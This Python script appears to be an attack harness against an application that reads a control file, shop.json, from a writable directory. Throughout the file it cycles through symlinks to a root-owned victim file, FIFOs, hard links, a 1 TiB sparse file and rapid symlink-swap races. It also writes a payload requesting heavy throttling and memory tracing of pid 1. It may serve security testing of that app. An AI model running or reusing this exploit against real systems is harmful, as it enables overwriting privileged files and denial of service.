# An attacker at a place where an app looks for the directory of its control file: control.py
# PLACE VICTIM. If PLACE is a directory already, in which everybody may write, only the file in
# it changes. VICTIM is a directory of root with a file shop.json. Each round has all shapes.
import json
import os
import shutil
import sys
import time

PLACE, VICTIM = sys.argv[1:3]
GIVEN = os.path.isdir(PLACE)
FILE = os.path.join(PLACE, "shop.json")
AT_ONCE = 1.2  # seconds of a shape


def asked():
    until = time.time() + 600
    garbage = {"run": "evil", "until": until}
    trace = {"run": "evil", "pid": 1, "until": until}
    return json.dumps({"version": 1, "throttle": {"percent": 95, "until": until}, "collect_garbage": garbage, "trace_memory": trace})


def write(path):
    with open(path, "w") as f:
        f.write(asked())


def clear():
    for path in [FILE, FILE + ".2"] if GIVEN else [PLACE, PLACE + ".own", PLACE + ".2"]:
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        elif os.path.lexists(path):
            os.unlink(path)


def plain():
    write(FILE)


def to_victim():
    os.symlink(os.path.join(VICTIM, "shop.json"), FILE)


def new_to_victim():
    path = os.path.join(PLACE, ".new.shop.json")
    if not os.path.lexists(path):
        os.symlink(os.path.join(VICTIM, "shop.json"), path)


def fifo():
    os.mkfifo(FILE)


def directory():
    os.mkdir(FILE)


def hard_link():
    write(FILE)
    os.link(FILE, FILE + ".2")


def huge():
    write(FILE)
    os.truncate(FILE, 1 << 40)


def changes():
    end = time.monotonic() + AT_ONCE
    while time.monotonic() < end:
        write(FILE + ".2")
        os.replace(FILE + ".2", FILE)
        os.symlink(os.path.join(VICTIM, "shop.json"), FILE + ".2")
        os.replace(FILE + ".2", FILE)


def place_fifo():
    os.rmdir(PLACE)
    os.mkfifo(PLACE)


def place_to_own():
    os.rename(PLACE, PLACE + ".own")
    os.symlink(PLACE + ".own", PLACE)
    write(FILE)


def place_to_victim():
    os.rmdir(PLACE)
    os.symlink(VICTIM, PLACE)


def place_changes():
    os.rename(PLACE, PLACE + ".own")
    write(os.path.join(PLACE + ".own", "shop.json"))
    end, to = time.monotonic() + AT_ONCE, VICTIM
    while time.monotonic() < end:
        os.symlink(to, PLACE + ".2")
        os.replace(PLACE + ".2", PLACE)
        to = PLACE + ".own" if to == VICTIM else VICTIM


while True:
    shapes = [plain, to_victim, new_to_victim, fifo, directory, hard_link, huge, changes]
    for shape in shapes if GIVEN else shapes + [place_fifo, place_to_own, place_to_victim, place_changes]:
        clear()
        if not GIVEN:
            os.mkdir(PLACE)
        shape()
        time.sleep(AT_ONCE)
    print("round", flush=True)
